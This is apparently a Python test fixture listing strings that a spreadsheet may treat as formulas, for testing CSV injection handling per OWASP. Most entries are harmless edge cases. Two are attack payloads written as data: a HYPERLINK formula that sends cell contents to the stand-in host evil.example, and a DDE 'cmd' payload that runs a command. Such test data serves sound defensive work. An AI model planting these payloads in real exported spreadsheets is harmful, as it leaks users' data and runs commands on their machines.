"""What a spreadsheet takes for a formula, as OWASP's page "CSV Injection" has it, and what stands close to that."""

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\x00=1", "\x1c=1",
    "\x85=1", "＝1+1", "－2+3", "＠x", '=HYPERLINK("http://evil.example?x="&A1,"see")', "=cmd|' /C calc'!A0",
    "-", "--1", "+", "-1e5", "+49 170 123", "-3,5", "=1;=2\n=3\r\n-x",
]  # fmt: skip
